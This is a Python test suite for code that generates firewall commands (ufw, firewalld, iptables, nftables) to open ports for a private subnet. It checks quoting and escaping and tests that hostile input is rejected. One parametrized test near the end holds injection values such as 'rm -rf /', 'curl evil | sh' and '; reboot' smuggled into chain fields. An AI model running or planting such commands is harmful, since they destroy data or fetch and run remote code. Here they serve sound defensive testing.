"""The commands that open a port, by the firewall that a node runs."""

from __future__ import annotations

import json
import shlex
import subprocess
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator.preflight.reach.firewall import (
    FIREWALL,
    PORT_RANGE,
    Chain,
    Firewall,
    may_block,
    open_elsewhere,
    open_ports,
)
from orchestrator.preflight.reach.openings import Opening

SUBNET, RANGE = "10.0.0.0/24", (32768, 60999)
INTO = Opening.make("input", SUBNET, 29500, RANGE)


def chain(**more: Any) -> Chain:
    fields: dict[str, Any] = {
        "tool": "nft",
        "family": "inet",
        "table": "filter",
        "name": "input",
        "hook": "input",
        "priority": 0,
        "blocks": True,
        "plain": True,
    }
    return Chain(**{**fields, **more})


def firewall_with(*chains: Chain, **more: Any) -> Firewall:
    fields: dict[str, Any] = {"manager": None, "zone": None, "unreadable": None}
    return Firewall(chains=chains, **{**fields, **more})


def inbound(firewall: Firewall, subnet: str = SUBNET, main: int | None = 29500) -> list[str]:
    remedy = open_ports(firewall, Opening.make("input", subnet, main, RANGE))
    return [] if remedy is None else list(remedy.commands)


def outbound(firewall: Firewall) -> list[str]:
    remedy = open_ports(firewall, Opening.make("output", SUBNET, 29500, RANGE))
    return [] if remedy is None else list(remedy.commands)


IPTABLES = {"tool": "iptables", "family": "ip", "table": "filter", "name": "INPUT"}
OUT = {"hook": "output", "name": "output"}


def test_ufw_allows_port_and_range_in_one_rule() -> None:
    firewall = firewall_with(chain(**IPTABLES), manager="ufw")
    assert inbound(firewall) == [
        "ufw allow from 10.0.0.0/24 to any port 29500,32768:60999 proto tcp"
    ]


def test_ufw_allows_outgoing_traffic() -> None:
    firewall = firewall_with(
        chain(**{**IPTABLES, "name": "OUTPUT", "hook": "output"}), manager="ufw"
    )
    assert outbound(firewall) == ["ufw allow out to 10.0.0.0/24 port 29500,32768:60999 proto tcp"]


def test_firewalld_allows_each_range_of_ports_in_the_zone() -> None:
    firewall = firewall_with(chain(table="firewalld"), manager="firewalld", zone="internal")
    rule = 'rule family="ipv4" source address="10.0.0.0/24" port port="{}" protocol="tcp" accept'
    assert [shlex.split(command) for command in inbound(firewall)] == [
        ["firewall-cmd", "--permanent", "--zone=internal", f"--add-rich-rule={rule.format(29500)}"],
        [
            "firewall-cmd",
            "--permanent",
            "--zone=internal",
            f"--add-rich-rule={rule.format('32768-60999')}",
        ],
        ["firewall-cmd", "--reload"],
    ]


def test_firewalld_allows_outgoing_traffic_by_a_policy_or_a_direct_rule() -> None:
    commands = outbound(firewall_with(chain(table="firewalld", **OUT), manager="firewalld"))
    assert commands[0] == "firewall-cmd --permanent --new-policy=orch-out"
    assert "destination address" in commands[-2]
    old = firewall_with(chain(**{**IPTABLES, "hook": "output"}), manager="firewalld")
    assert outbound(old) == [
        (
            "firewall-cmd --permanent --direct --add-rule ipv4 filter OUTPUT 0 -d 10.0.0.0/24 -p tcp "
            "-m multiport --dports 29500,32768:60999 -j ACCEPT"
        ),
        "firewall-cmd --reload",
    ]


def test_iptables_inserts_before_all_other_rules() -> None:
    assert inbound(firewall_with(chain(**IPTABLES))) == [
        "iptables -I INPUT -s 10.0.0.0/24 -p tcp -m multiport --dports 29500,32768:60999 -j ACCEPT"
    ]


def test_iptables_legacy_in_another_table_names_both() -> None:
    raw = chain(
        tool="iptables-legacy", family="ip", table="raw", name="PREROUTING", hook="prerouting"
    )
    assert inbound(firewall_with(raw))[0].startswith("iptables-legacy -t raw -I PREROUTING -s ")


def test_ipv6_subnet_is_opened_only_in_chains_that_filter_ipv6() -> None:
    six = chain(tool="ip6tables", family="ip6", table="filter", name="INPUT")
    four = chain(**IPTABLES)
    both = chain()
    commands = inbound(firewall_with(four, six, both), "fd00::/64")
    assert [command.split()[0] for command in commands] == ["ip6tables", "nft"]
    assert " ip6 saddr fd00::/64 " in commands[1]


def test_every_blocking_base_chain_of_nft_gets_a_rule() -> None:
    """In nftables, a packet accepted in one base chain still passes the next."""
    open_chain = chain(table="third", blocks=False)
    firewall = firewall_with(
        chain(), chain(family="ip", table="second", hook="prerouting"), open_chain
    )
    assert inbound(firewall) == [
        (
            "nft insert rule inet filter input ip saddr 10.0.0.0/24 tcp dport '{ 29500, 32768-60999 }' "
            "accept"
        ),
        (
            "nft insert rule ip second input ip saddr 10.0.0.0/24 tcp dport '{ 29500, 32768-60999 }' "
            "accept"
        ),
    ]


def test_nft_matches_outgoing_traffic_by_destination() -> None:
    (command,) = outbound(firewall_with(chain(), chain(**OUT)))
    assert command.startswith("nft insert rule inet filter output ip daddr 10.0.0.0/24 tcp dport ")


def test_table_outside_the_manager_is_opened_as_well() -> None:
    firewall = firewall_with(
        chain(table="firewalld"), chain(table="extra"), manager="firewalld", zone="z"
    )
    commands = inbound(firewall)
    assert commands[-2] == "firewall-cmd --reload"
    assert commands[-1].startswith("nft insert rule inet extra ")


def test_manager_that_does_not_block_is_left_alone() -> None:
    firewall = firewall_with(
        chain(table="firewalld", blocks=False), chain(table="x"), manager="firewalld"
    )
    (command,) = inbound(firewall)
    assert command.startswith("nft insert rule inet x ")


def test_manager_with_unreadable_rules_is_opened() -> None:
    assert inbound(firewall_with(manager="ufw", unreadable="root only"))[0].startswith(
        "ufw allow from "
    )


def test_remedy_tells_whether_it_survives_a_reboot() -> None:
    remedies = [
        open_ports(firewall, INTO)
        for firewall in (firewall_with(chain()), firewall_with(chain(**IPTABLES), manager="ufw"))
    ]
    assert all(remedy is not None and "reboot" in remedy.text for remedy in remedies)


def test_firewall_that_does_not_block_has_no_remedy() -> None:
    firewall = firewall_with(chain(blocks=False))
    assert open_ports(firewall, INTO) is None
    assert may_block(firewall, "input") is False
    assert "security group" in open_elsewhere(INTO).text


def test_may_block_of_unreadable_rules_is_unknown() -> None:
    firewall = firewall_with(unreadable="nft: Operation not permitted")
    assert may_block(firewall, "input") is None
    remedy = open_ports(firewall, INTO)
    assert remedy is not None and remedy.commands == ()
    assert "10.0.0.0/24" in remedy.text and "29500 and 32768-60999" in remedy.text
    # The rules that were read are enough.
    assert may_block(firewall_with(chain(), unreadable="ip6tables: failed"), "input") is True


def test_name_of_a_firewall_is_its_usual_one() -> None:
    firewalls = [
        firewall_with(chain()),
        firewall_with(chain(**IPTABLES)),
        firewall_with(manager="ufw"),
        firewall_with(),
    ]
    assert [each.name for each in firewalls] == ["nftables", "iptables", "ufw", "firewall"]


PORT = st.integers(1, 65535)


@given(st.none() | PORT, PORT, PORT)
def test_make_covers_every_port_exactly_once(main: int | None, one: int, other: int) -> None:
    low, high = min(one, other), max(one, other)
    ports = Opening.make("input", SUBNET, main, (low, high)).ports
    covered = [port for first, last in ports for port in range(first, last + 1)]
    assert len(covered) == len(set(covered))
    assert set(covered) == {*range(low, high + 1)} | ({main} if main else set())


@given(st.text(min_size=1, max_size=40), st.text(min_size=1, max_size=40))
def test_nft_json_keeps_any_name_through_the_shell(table: str, name: str) -> None:
    (command,) = inbound(firewall_with(chain(table=table, name=name, plain=False)))
    words = shlex.split(command)
    assert words[:2] == ["nft", "-j"]
    rule = json.loads(words[2])["nftables"][0]["insert"]["rule"]
    assert (rule["table"], rule["chain"]) == (table, name)
    assert command.isprintable()  # no control characters for a terminal


def test_commands_keep_braces_and_quotes_through_a_real_shell() -> None:
    firewall = firewall_with(chain(), chain(table="it's", name='"{ $x }"', plain=False))
    for command in inbound(firewall):
        printed = subprocess.run(
            ["sh", "-c", f"nft() {{ printf '%s\\n' \"$@\"; }}; {command}"],
            capture_output=True,
            text=True,
            check=True,
            timeout=10,
        )
        assert printed.stdout.splitlines() == shlex.split(command)[1:]


RAW_CHAIN = {
    "tool": "nft", "family": "inet", "table": "filter", "name": "input", "hook": "input",
    "priority": 0, "blocks": True, "plain": True,
}  # fmt: skip


def raw(**more: Any) -> dict[str, Any]:
    return {"manager": None, "zone": None, "unreadable": None, "chains": [RAW_CHAIN], **more}


def test_parse_reads_firewall_and_port_range() -> None:
    assert FIREWALL.parse(raw()) == firewall_with(chain())
    assert PORT_RANGE.parse([32768, 60999]) == RANGE


@pytest.mark.parametrize(
    "lie",
    [
        {"manager": "rm -rf /"},
        {"chains": [{**RAW_CHAIN, "tool": "curl evil | sh"}]},
        {"chains": [{**RAW_CHAIN, "family": "x; reboot"}]},
        {"chains": [{**RAW_CHAIN, "tool": "iptables", "name": "INPUT; reboot"}]},
        {"chains": [{**RAW_CHAIN, "priority": "high"}]},
    ],
)
def test_parse_of_hostile_names_raises(lie: dict[str, Any]) -> None:
    with pytest.raises(ValueError, match=r"unknown|invalid"):
        FIREWALL.parse(raw(**lie))


def test_unusual_table_name_is_only_used_in_json() -> None:
    firewall = FIREWALL.parse(raw(chains=[{**RAW_CHAIN, "table": "\x1b[2J"}]))
    (command,) = inbound(firewall)
    assert command.startswith("nft -j ") and command.isprintable()
